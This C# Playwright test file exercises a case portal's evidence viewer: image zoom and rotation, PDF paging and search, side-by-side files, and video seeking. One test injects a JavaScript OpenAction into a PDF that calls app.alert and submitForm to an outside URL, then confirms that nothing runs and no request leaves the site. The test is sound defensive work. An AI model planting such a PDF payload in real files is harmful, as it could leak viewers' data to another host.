using Microsoft.Playwright;
using Portal.Testing;
using Portal.Testing.Building;
using Shouldly;
using Xunit;
using static Portal.Testing.Building.Builders;

namespace Portal.Browser.Tests.Desk;

/// <summary>Evidence looked at in the middle of a case.</summary>
public sealed class ViewerTests(DeskPortal portal) : Xunit.IClassFixture<DeskPortal>
{
    private static readonly byte[] Log = EvidenceFiles.Pdf(
        "Temperature log of the walk-in fridge", "Monday: 3 degrees, Tuesday: 3 degrees", "Wednesday: the thermometer was replaced", "Thursday: 4 degrees", "Signed by the manager");

    [BrowserFact]
    public async Task A_picture_is_zoomed_turned_and_moved_by_keyboard_and_pointer()
    {
        await using var desk = await OpenAsync(AnAppeal().WithFile("fridge.jpg", "image/jpeg", EvidenceFiles.Photo()));
        var (page, keys) = (desk.Page, desk.Page.Keyboard);

        await keys.PressAsync("v");
        await Assertions.Expect(page.Locator("[data-file][data-ready] [data-stage]").First).ToBeFocusedAsync();
        var fit = await ScaleAsync(page);
        await keys.PressAsync("+");
        (await ScaleAsync(page)).ShouldBeGreaterThan(fit);
        await keys.PressAsync("+");
        var before = await LeftAsync(page);
        await keys.PressAsync("ArrowRight");
        (await LeftAsync(page)).ShouldBeLessThan(before);
        await keys.PressAsync("r");
        (await page.Locator("[data-paper]:visible").First.EvaluateAsync<string>("paper => paper.style.transform")).ShouldContain("rotate(90deg)");
        await keys.PressAsync("0");
        (await BoxAsync(page)).Height.ShouldBeLessThanOrEqualTo((await page.Locator("[data-stage]:visible").First.BoundingBoxAsync())!.Height + 1);
        await page.Locator("[data-stage]:visible").First.HoverAsync();
        var small = await ScaleAsync(page);
        await page.Mouse.WheelAsync(0, -100);
        await page.WaitForFunctionAsync("scale => new DOMMatrix(getComputedStyle(document.querySelector('.view.live [data-paper]')).transform).b > scale", small);
        await desk.ShouldBeAccessibleAsync();
    }

    [BrowserFact]
    public async Task A_pdf_is_read_page_by_page_and_its_words_are_found()
    {
        await using var desk = await OpenAsync(AnAppeal().WithFile("log.pdf", "application/pdf", Log));
        var (page, keys) = (desk.Page, desk.Page.Keyboard);
        (await page.EvaluateAsync<string[]>("performance.getEntriesByType('resource').map(entry => entry.name)")).ShouldNotContain(name => name.Contains("pdf"), "before anybody looks at it");

        await keys.PressAsync("v");
        await Assertions.Expect(page.Locator("[data-page]:visible")).ToHaveTextAsync("Page 1 of 5");
        await Assertions.Expect(page.Locator("canvas[data-drawn='1']:visible")).ToBeVisibleAsync();
        await keys.PressAsync("PageDown");
        await Assertions.Expect(page.Locator("[data-page]:visible")).ToHaveTextAsync("Page 2 of 5");
        await Assertions.Expect(page.Locator("canvas[data-drawn='2']:visible")).ToBeVisibleAsync();
        await keys.PressAsync("/");
        await keys.TypeAsync("DEGREES");
        await Assertions.Expect(page.Locator("[data-found]:visible")).ToHaveTextAsync("1 of 3, page 2");
        await keys.PressAsync("Enter");
        await keys.PressAsync("Enter");
        await Assertions.Expect(page.Locator("[data-found]:visible")).ToHaveTextAsync("3 of 3, page 4");
        await Assertions.Expect(page.Locator("[data-page]:visible")).ToHaveTextAsync("Page 4 of 5");
        await Assertions.Expect(page.Locator(".found i.now:visible")).ToHaveCountAsync(1);
        await keys.PressAsync("Shift+Enter");
        await Assertions.Expect(page.Locator("[data-page]:visible")).ToHaveTextAsync("Page 2 of 5");
        await page.Locator("[data-words]:visible").FillAsync("nothing like it");
        await Assertions.Expect(page.Locator("[data-found]:visible")).ToHaveTextAsync("Not found");
        await desk.ShouldBeAccessibleAsync();
    }

    [BrowserFact]
    public async Task Two_files_stand_side_by_side()
    {
        await using var desk = await OpenAsync(AnAppeal().WithFile("fridge.jpg", "image/jpeg", EvidenceFiles.Photo()).WithFile("log.pdf", "application/pdf", Log).WithFile("scale.jpg", "image/jpeg", EvidenceFiles.Photo()));
        var page = desk.Page;

        await page.Keyboard.PressAsync("v");
        await page.Keyboard.PressAsync("|");
        await Assertions.Expect(page.Locator("[data-file]:visible")).ToHaveCountAsync(2);
        await Assertions.Expect(page.Locator("[data-page]:visible")).ToHaveTextAsync("Page 1 of 5");
        await desk.ShouldBeAccessibleAsync();
        await page.Locator("[data-panel=files] [data-pick='2']").ClickAsync();
        await Assertions.Expect(page.Locator("[data-kind=picture]:visible")).ToHaveCountAsync(2);
        await page.Keyboard.PressAsync("|");
        await Assertions.Expect(page.Locator("[data-file]:visible")).ToHaveCountAsync(1);
    }

    [BrowserFact]
    public async Task What_cannot_be_shown_says_so_and_is_saved_instead()
    {
        await using var desk = await OpenAsync(AnAppeal().WithFile("torn.pdf", "application/pdf", "%PDF-1.7 and then nothing"u8.ToArray()).WithFile("sheet.xlsx", "application/octet-stream", [1, 2, 3]));
        var page = desk.Page;

        await page.Keyboard.PressAsync("v");
        await Assertions.Expect(page.Locator("[data-cannot]:visible")).ToContainTextAsync("cannot be shown here");
        await page.Locator("[data-panel=files] [data-pick='1']").ClickAsync();
        var saved = await page.RunAndWaitForDownloadAsync(() => page.Locator("[data-cannot]:visible a").ClickAsync());
        saved.SuggestedFilename.ShouldBe("sheet.xlsx");
        await desk.ShouldBeAccessibleAsync();
    }

    [BrowserTheory]
    [InlineData("video/mp4", "kitchen.mp4")]
    [InlineData("video/webm", "kitchen.webm")]
    public async Task A_film_is_played_and_sought_in(string mediaType, string name)
    {
        await using var maker = await portal.OpenAsync(await portal.Given(AReviewer()));
        await maker.Page.GotoAsync("/desk");
        var film = await EvidenceFiles.FilmAsync(maker.Page, mediaType);
        await using var desk = await OpenAsync(AnAppeal().WithFile(name, mediaType, film));
        var page = desk.Page;

        await page.Locator("[data-tab=files]").First.ClickAsync();
        await page.Locator("video:visible").EvaluateAsync("video => new Promise(ready => { video.readyState ? ready() : video.onloadedmetadata = ready; })");
        await page.Locator("video:visible").EvaluateAsync("video => new Promise(found => { video.onseeked = found; video.currentTime = 0.5; })");
        var status = await page.EvaluateAsync<int>("fetch(document.querySelector('[data-kind=film]').dataset.src, { headers: { range: 'bytes=10-19' } }).then(answer => answer.status)");
        status.ShouldBe(206);
    }

    [BrowserFact]
    public async Task A_pdf_that_carries_a_script_runs_none_of_it_and_reaches_nobody()
    {
        var hostile = System.Text.Encoding.Latin1.GetString(Log).Replace("/Type /Catalog", "/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('https://example.org/'\\)) >>");
        await using var desk = await OpenAsync(AnAppeal().WithFile("log.pdf", "application/pdf", System.Text.Encoding.Latin1.GetBytes(hostile)));
        var page = desk.Page;
        List<string> reached = [];
        page.Request += (_, request) => reached.Add(request.Url);
        page.Dialog += (_, dialog) => reached.Add(dialog.Message);

        await page.Keyboard.PressAsync("v");
        await Assertions.Expect(page.Locator("canvas[data-drawn='1']:visible")).ToBeVisibleAsync();

        var home = new Uri(page.Url).GetLeftPart(UriPartial.Authority);
        reached.ShouldAllBe(url => url.StartsWith(home, StringComparison.Ordinal) || url.StartsWith("blob:" + home, StringComparison.Ordinal));
    }

    private async Task<Window> OpenAsync(AppealBuilder about)
    {
        var reviewer = await portal.Given(AReviewer());
        var appeal = await portal.Given(about);
        await portal.TakeAsync(appeal, reviewer);
        var desk = await portal.OpenAsync(reviewer);
        await desk.Page.GotoAsync($"/desk/cases/{appeal.Reference}");
        await Assertions.Expect(desk.Page.Locator("[data-island]:not([inert])")).ToBeVisibleAsync();
        return desk;
    }

    private static Task<LocatorBoundingBoxResult> BoxAsync(IPage page) => page.Locator("[data-paper]:visible").First.BoundingBoxAsync()!;

    private static async Task<double> ScaleAsync(IPage page) =>
        await page.Locator("[data-paper]:visible").First.EvaluateAsync<double>("paper => Math.max(...['a', 'b', 'c', 'd'].map(name => Math.abs(new DOMMatrix(getComputedStyle(paper).transform)[name])))");

    private static async Task<double> LeftAsync(IPage page) => (await BoxAsync(page)).X;
}
